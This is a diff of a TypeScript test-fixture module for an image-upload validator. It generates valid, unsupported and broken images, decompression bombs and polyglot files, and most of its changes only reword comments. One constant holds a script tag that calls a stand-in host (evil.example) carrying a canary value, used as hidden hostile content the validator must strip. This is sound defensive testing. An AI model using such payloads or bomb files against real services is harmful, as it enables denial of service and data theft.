@@ -1,7 +1,7 @@
 import { crc32, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 
-/** Stands in whatever the corpus hides in a file; none of it may be in anything stored. */
+/** Hidden in every sample file; nothing stored may contain it. */
 export const canary = 'CANARY-7f3a91';
 
 const script = `<script>fetch('https://evil.example/${canary}')</script>`;
@@ -18,7 +18,7 @@ const picture = (width = 64, height = 48) =>
     },
   });
 
-/** One small valid picture of each kind that is allowed. */
+/** A small valid picture of each allowed kind. */
 export async function validPictures(): Promise<Record<'jpeg' | 'png' | 'webp' | 'gif' | 'avif', Buffer>> {
   return {
     jpeg: await picture().jpeg().toBuffer(),
@@ -29,7 +29,7 @@ export async function validPictures(): Promise<Record<'jpeg' | 'png' | 'webp' | 
   };
 }
 
-/** Files that are no picture we take, by what they are; every one must be refused before a decoder sees it. */
+/** By kind. All must be refused before decoding. */
 export async function unsupportedFiles(): Promise<Record<string, Buffer>> {
   const tiff = await picture().tiff().toBuffer();
   const text = (content: string) => Buffer.from(content);
@@ -82,7 +82,7 @@ export async function unsupportedFiles(): Promise<Record<string, Buffer>> {
   };
 }
 
-/** Files that begin like a picture but are none, or are broken: refused, whether early or by the decoder. */
+/** Files that start like a picture but are broken: refused, by the signature check or by the decoder. */
 export async function brokenPictures(): Promise<Record<string, Buffer>> {
   const { jpeg, png, webp, gif, avif } = await validPictures();
   const large = await picture(400, 300).jpeg().toBuffer();
@@ -110,7 +110,7 @@ export async function brokenPictures(): Promise<Record<string, Buffer>> {
   };
 }
 
-/** Small files that would need a great deal of memory or time. */
+/** Small files that need a lot of memory or time to decode. */
 export async function decompressionBombs(): Promise<Record<string, Buffer>> {
   const { gif, webp, jpeg } = await validPictures();
   return {
@@ -123,7 +123,7 @@ export async function decompressionBombs(): Promise<Record<string, Buffer>> {
   };
 }
 
-/** Valid pictures that carry something else along: taken, and the something else is gone. */
+/** Valid pictures with other content appended: accepted, without that content. */
 export async function polyglots(): Promise<Record<string, Buffer>> {
   const { jpeg, png, webp, gif } = await validPictures();
   const zip = Buffer.concat([
@@ -154,7 +154,6 @@ export async function polyglots(): Promise<Record<string, Buffer>> {
   };
 }
 
-/** A GIF of so many frames, each a single pixel's change. */
 export async function animatedGif(frames: number): Promise<Buffer> {
   const size = 16;
   const pixels = Buffer.alloc(size * size * 3 * frames, 200);
@@ -173,7 +172,7 @@ function corrupt(bytes: Buffer, at: number): Buffer {
 
 // ---- PNG
 
-/** A PNG of one bit a pixel, all black: 196 million pixels are 24 kB. `rows` fewer than claimed make it short. */
+/** One bit per pixel, all black: 196 million pixels are 24 kB. With fewer `rows` than claimed the file is truncated. */
 function pngOf({ width, height }: { width: number; height: number }, rows = height): Buffer {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
@@ -199,7 +198,7 @@ function pngChunk(type: string, data: Buffer): Buffer {
 }
 
 const withPngText = (png: Buffer, text: string) =>
-  // Behind the signature and the header, which are 33 bytes.
+  // After the signature and the header, which are 33 bytes.
   Buffer.concat([png.subarray(0, 33), pngChunk('tEXt', Buffer.from(text, 'latin1')), png.subarray(33)]);
 
 // ---- JPEG, GIF, WebP
@@ -237,7 +236,7 @@ function withGifComment(gif: Buffer, text: string): Buffer {
 
 function withGifSize(gif: Buffer, width: number, height: number): Buffer {
   const changed = Buffer.from(gif);
-  // On the screen, and in the frame: its separator is followed by left, top, width and height.
+  // In the screen descriptor and in the frame: its separator is followed by left, top, width and height.
   const frame = changed.indexOf(Buffer.from([0x2c, 0, 0, 0, 0]));
   for (const at of [6, frame + 5]) {
     changed.writeUInt16LE(width, at);
